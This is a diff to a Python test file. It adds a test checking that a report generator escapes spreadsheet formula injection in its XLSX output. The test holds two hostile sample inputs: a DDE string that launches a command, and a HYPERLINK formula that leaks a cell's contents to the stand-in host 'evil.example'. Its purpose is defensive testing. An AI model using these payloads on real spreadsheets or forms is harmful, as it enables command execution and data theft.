@@ -18,7 +18,7 @@ from sla_support import cli_run, travel
 from sqlalchemy import func, select
 
 from app import db, settings
-from app.models import CalendarOverride, Delivery, Document, JobRun, Notification, Report
+from app.models import CalendarOverride, Delivery, DepartmentMeasure, Document, JobRun, Notification, Report
 from app.quality import analytics, reports
 
 OCTOBER = analytics.period_containing("month", date(2026, 10, 1))
@@ -310,3 +310,30 @@ def test_a_head_files_weekly_measures_through_the_form(app, web, org):
     page = head.post("/departmentmeasureview/add", data=form, follow_redirects=True).get_data(as_text=True)
     assert db.session.scalar(select(func.count()).select_from(DepartmentMeasure)) == 1
     assert "alert-danger" in page  # the reason is flashed
+
+
+# --- Formula injection (issue 13, item 6) -------------------------------------------------------
+
+INJECTED_SUBJECT = "=1+1+cmd|' /C calc'!A0"
+INJECTED_MEASURE = '=HYPERLINK("http://evil.example/?leak="&B2,"x")'
+
+
+def test_user_text_is_written_as_text_never_as_a_formula(october):
+    october["E"].subject = INJECTED_SUBJECT
+    measure = db.session.scalars(select(DepartmentMeasure)).one()
+    measure.text = INJECTED_MEASURE
+    db.session.commit()
+    report = reports.generate(db.session, OCTOBER, now=at(11, 2, 8))
+    db.session.commit()
+    book = load_workbook(io.BytesIO(report.xlsx))
+    cells = {
+        book[title].cell(row=row, column=column)
+        for title in book.sheetnames
+        for row in range(1, book[title].max_row + 1)
+        for column in range(1, book[title].max_column + 1)
+    }
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    worst = {row[0][:10]: row for row in book["重点案件"].iter_rows(min_row=2, values_only=True)}
+    assert worst["TS20261008"][4] == "'" + INJECTED_SUBJECT
+    measures = {row[0]: row[1] for row in book["整改措施"].iter_rows(min_row=2, values_only=True)}
+    assert measures["工程部"] == "'" + INJECTED_MEASURE
